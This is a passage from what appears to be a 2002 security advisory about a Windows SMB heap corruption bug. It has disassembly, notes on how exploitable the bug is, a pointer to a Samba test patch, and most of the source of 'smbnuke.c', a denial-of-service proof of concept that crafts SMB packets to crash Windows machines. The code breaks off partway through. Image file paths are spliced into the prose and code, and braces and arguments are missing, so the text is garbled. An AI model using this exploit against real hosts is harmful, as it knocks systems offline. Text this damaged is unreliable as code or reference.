        7568DB33                 add     ebx, edi
        7568DB35                 add     eax, edi
        7568DB37                 mov     [ebx], dx ; overwrite the 3th and 4th byte
        Exploitation of this vulnerability in order to  run  arbitrary  code  on
        the vulnerable system is not straight forward and our  research  so  far
        could not identify a reliable attack scenario other than  to  perform  adenial of service.
        The complexity of exploiting this  vulnerability  to  gain  unauthorized
        access to a system or plainly run arbitrary code on it  resides  on  the
        fact that the attacker can not  completly  control  the  bytes  used  to
        overwrite the chunk's 'control' data nor the bytes contained in  BUFFER2
        (of  which the 'control' data is overwritten).
        We do not discard that further research will demonstrate that  arbitrary
        code execution is possible.
        When the attack  is  performed  using  the  NetShareEnum  function,  the
        corruption of the heap also occurs in the call to  XsSetParameters,  but
        I_I_BrowserServerEnumForXactsrv is not called, and  possible  values  to
        overwrite the chunk 'control'  data  are  more  promising  in  terms  of
        exploiting the problem, but the lack of complete control of the data  of
        BUFFER2again makes it difficult.
         Update (29 August 2002)
        huagang says :
        Here is a patch to samba-2.2.5, after patch and  compile,  you  can  use
        smbclient to test the windows machine.
            $ smbclient -L IP_ADDR
        Content-Type: TEXT/PLAIN; charset=US-ASCII; name="smb.dos.diff"
        Content-Transfer-Encoding: BASE64
    * smbnuke.c -- Windows SMB Nuker (DoS) - Proof of concept
    * Copyright (C) 2002 Frederic Deletang ([email protected])
    * This program is free software; you can redistribute it and/or
    * modify it under the terms of the GNU General Public License
    * as published by the Free Software Foundation; either version 2 of
    * the License or (at your option) any later version.
    * This program is distributed in the hope that it will be
    * useful, but WITHOUT ANY WARRANTY; without even the implied warranty
    * GNU General Public License for more details.
    * You should have received a copy of the GNU General Public License
    * along with this program; if not, write to the Free Software
    * Foundation, Inc., 59 Temple Place, Suite 330, Boston, MA 02111-1307
    * USA
    /* NOTE:
    * Compile this program using only GCC and no other compilers
    * (except if you think this one supports the __attribute__ (( packed ))
    * This program might not work on big-endian systems.
    *It has been successfully tested from the following plateforms:
    * - Linux 2.4.18 / i686
    * - FreeBSD 4.6.1-RELEASE-p10 / i386
    * Don't bother me if you can't get it to compile or work on Solaris using
    the SunWS compiler.
    * Another thing: The word counts are hardcoded, careful if you hack the
    /* Copyright notice:
    * some parts of this source (only two functions, name_len and name_mangle)
    * has been taken from libsmb. The rest, especially the structures has
    * been written by me.
    #include <stdio.h>
    #include <unistd.h>
    #include <sys/types.h>
    #include <sys/socket.h>
    #include <netdb.h>
    #include <fcntl.h>
    #include <stdlib.h>
    #include <ctype.h>
    #include <assert.h>
    #include <string.h>
    #include <errno.h>
    #include <time.h>
    #include <netinet/in.h>
    #include <arpa/inet.h>
    #include <string.h>
    #include <sys/time.h>
    #define SESSION_REQUEST 0x81
    #define SESSION_MESSAGE 0x00
    #define bswap16(x) \
    ((((x) >> 8) & 0xff) | (((x) & 0xff) << 8))
    typedef struct
      unsigned char server_component[4];
      unsigned char command;
      unsigned char error_class;
      unsigned char reserved1;
      uint16_t error_code;
      uint8_t flags;
      uint16_t flags2;
      unsigned char reserved2[12];
      uint16_t tree_id;
      uint16_t proc_id;
      uint16_t user_id;
      uint16_t mpex_id;
    __attribute__ ((packed)) smb_header;
    typedef struct
      unsigned char type;
      unsigned char flags;
      unsigned short length;
      unsigned char called[34];
      unsigned char calling[34];
    __attribute__ ((packed)) nbt_packet;
    typedef struct
      /* wct: word count */uint8_t wct;
      unsigned char andx_command;
      unsigned char reserved1;
      uint16_t andx_offset;
      uint16_t max_buffer;
      uint16_t max_mpx_count;
      uint16_t vc_number;
      uint32_t session_key;
      uint16_t ANSI_pwlen;
      uint16_t UNI_pwlen;
      unsigned char reserved2[4];
      uint32_t capabilities;
      /* bcc: byte count */
      uint16_t bcc;
    __attribute__ ((packed)) session_setup_andx_request;
    typedef struct
      /* wct: word count */
      uint8_t wct;unsigned char andx_command;
      unsigned char reserved1;
      uint16_t andx_offset;
      uint16_t flags;
      uint16_t pwlen;
      uint16_t bcc;
    __attribute__ ((packed)) tree_connect_andx_request;
    typedef struct
      /* wct: word count */
      uint8_t wct;
      uint16_t total_param_cnt;
      uint16_t total_data_cnt;
      uint16_t max_param_cnt;
      uint16_t max_data_cnt;
      uint8_t max_setup_cnt;
      unsigned char reserved1;
      uint16_t flags;
      uint32_t timeout;
      uint16_t reserved2;uint16_t param_cnt;
      uint16_t param_offset;
      uint16_t data_cnt;
      uint16_t data_offset;
      uint8_t setup_count;
      uint8_t reserved3;
      /* bcc: byte count */
      uint16_t bcc;
    __attribute__ ((packed)) transaction_request;
    typedef struct
      uint16_t function_code;
      unsigned char param_descriptor[6];
      unsigned char return_descriptor[7];
      uint16_t detail_level;
      uint16_t recv_buffer_len;
    __attribute__ ((packed)) parameters;
    typedef struct
      uint8_t format;
      unsigned char *name;
    t_dialects dialects[] = {
      {2, "PC NETWORK PROGRAM 1.0"},{2, "MICROSOFT NETWORKS 1.03"},
      {2, "LANMAN1.0"},
      {2, "LM1.2X002"},
      {2, "Samba"},
      {2, "NT LM 0.12"},
      {2, "NT LANMAN 1.0"},
      {0, NULL}
    const unsigned char *global_scope = NULL;
    * return the total storage length of a mangled name - from smbclient
    name_len (char *s1)/* NOTE: this argument _must_ be unsigned */
      unsigned char *s = (unsigned char *) s1;
      int len;
      /* If the two high bits of the byte are set, return 2. */
      if (0xC0 == (*s & 0xC0))
        return (2);
      /* Add up the length bytes. */
      for (len = 1; (*s); s += (*s) + 1)len += *s + 1;
        assert (len < 80);
      return (len);
    } /* name_len */
                                    * mangle a name into netbios format - from
                                    * Note: <Out> must be (33 + strlen(scope)
    + 2) bytes long, at minimum.
    name_mangle (char *In, char *Out, char name_type)
      int i;
      int c;
      int len;
      char buf[20];
      char *p = Out;
      /* Safely copy the input string, In, into buf[]. */
      (void) memset (buf, 0, 20);
      if (strcmp (In, "*") == 0)
        buf[0] = '*';
        (void) snprintf (buf, sizeof (buf) - 1, "%-15.15s%c", In, name_type);
      /* Place the length of the first field into the output buffer. */
      p[0] = 32;
      /* Now convert the name to the rfc1001/1002 format. */
      for (i = 0; i < 16; i++)
        c = toupper (buf[i]);
        p[i * 2] = ((c >> 4) & 0x000F) + 'A';
        p[(i * 2) + 1] = (c & 0x000F) + 'A';
      p += 32;
      p[0] = '\0';
      /* Add the scope string. */
      for (i = 0, len = 0; NULL != global_scope; i++, len++)
        switch (global_scope[i])
        case '\0':
          p[0] = len;
          if (len > 0)
            p[len + 1] = 0;
          return (name_len (Out));case '.':
          p[0] = len;
          p += (len + 1);
          len = -1;
          p[len + 1] = global_scope[i];
      return (name_len (Out));
    tcp_connect (const char *rhost, unsigned short port)
      struct sockaddr_in dest;
      struct hostent *host;
      int fd;
      host = gethostbyname (rhost);
      if (host == NULL)
        fprintf (stderr, "Could not resolve host: %s\n", rhost);
        return -1;
      dest.sin_family = AF_INET;
      dest.sin_addr.s_addr = *(long *) (host->h_addr);
      dest.sin_port = htons (port);
      fd = socket (AF_INET, SOCK_STREAM, 0);if (connect (fd, (struct sockaddr *) &dest, sizeof (dest)) < 0)
        fprintf (stderr, "Could not connect to %s:%d - %s\n", rhost, port,
          strerror (errno));
        return -1;
      return fd;
    build_smb_header (smb_header * hdr, uint8_t command, uint8_t flags,
                      uint16_t flags2, uint16_t tree_id, uint16_t proc_id,
                      uint16_t user_id, uint16_t mpex_id)
      memset (hdr, 0, sizeof (smb_header));
      /* SMB Header MAGIC. */
      hdr->server_component[0] = 0xff;
      hdr->server_component[1] = 'S';
      hdr->server_component[2] = 'M';hdr->server_component[3] = 'B';
      hdr->command = command;
      hdr->flags = flags;
      hdr->flags2 = flags2;
      hdr->tree_id = tree_id;
      hdr->proc_id = proc_id;
      hdr->user_id = user_id;
      hdr->mpex_id = mpex_id;
    unsigned char *
    push_string (unsigned char *stack, unsigned char *string)
      strcpy (stack, string);
      return stack + strlen (stack) + 1;
    request_session_setup (int fd, char *netbios_name)
      nbt_packet pkt;
      pkt.type = SESSION_REQUEST;
      pkt.flags = 0x00;
      pkt.length = bswap16 (sizeof (nbt_packet));
      name_mangle (netbios_name, pkt.called, 0x20);
      name_mangle ("", pkt.calling, 0x00);write (fd, &pkt, sizeof (nbt_packet));
    negotiate_protocol (unsigned char *buffer, int fd)
      smb_header hdr;
      unsigned char *p;
      uint16_t proc_id, mpex_id;
      int i;
      proc_id = (uint16_t) rand ();
      mpex_id = (uint16_t) rand ();
      buffer[0] = SESSION_MESSAGE;
      buffer[1] = 0x0;
      build_smb_header (&hdr, SMB_NEGOTIATE_PROTOCOL, 0, 0, 0, proc_id, 0,
      memcpy (buffer + 4, &hdr, sizeof (smb_header));
      p = buffer + 4 + sizeof (smb_header) + 3;
      for (i = 0; dialects[i].name != NULL; i++)
        *p = dialects[i].format;
        strcpy (p + 1, dialects[i].name);
        p += strlen (dialects[i].name) + 2;
      /* Set the word count */
      *(uint8_t *) (buffer + 4 + sizeof (smb_header)) = 0;
      /* Set the byte count */
      *(uint16_t *) (buffer + 4 + sizeof (smb_header) + 1) =(uint16_t) (p - buffer - 4 - sizeof (smb_header) - 3);
      *(uint16_t *) (buffer + 2) = bswap16 ((uint16_t) (p - buffer - 4));
      write (fd, buffer, p - buffer);
    request_session_setup_andx (unsigned char *buffer, int fd)
      smb_header hdr;
      session_setup_andx_request ssar;
      uint16_t proc_id, mpex_id;
      unsigned char *p;
      proc_id = (uint16_t) rand ();
      mpex_id = (uint16_t) rand ();
      build_smb_header (&hdr, SMB_SESSION_SETUP_ANDX, 0x08, 0x0001, 0,
    proc_id, 0,
      buffer[0] = SESSION_MESSAGE;
      buffer[1] = 0x0;
      memcpy (buffer + 4, &hdr, sizeof (smb_header));
      p = buffer + 4 + sizeof (smb_header);
      memset (&ssar, 0, sizeof(session_setup_andx_request));
      ssar.wct = 13;
      ssar.andx_command = 0xff; /* No further commands */
      ssar.max_buffer = 65535;
      ssar.max_mpx_count = 2;
      ssar.vc_number = 1025;
      ssar.ANSI_pwlen = 1;
      p = buffer + 4 + sizeof (smb_header) + sizeof
      /* Ansi password */
      p = push_string (p, "");
      /* Account */
      p = push_string (p, "");
      /* Primary domain */
      p = push_string (p, "WORKGROUP");
      /* Native OS */
      p = push_string (p, "Unix");
      /* Native Lan Manager */
      p = push_string (p, "Samba");
      ssar.bcc =
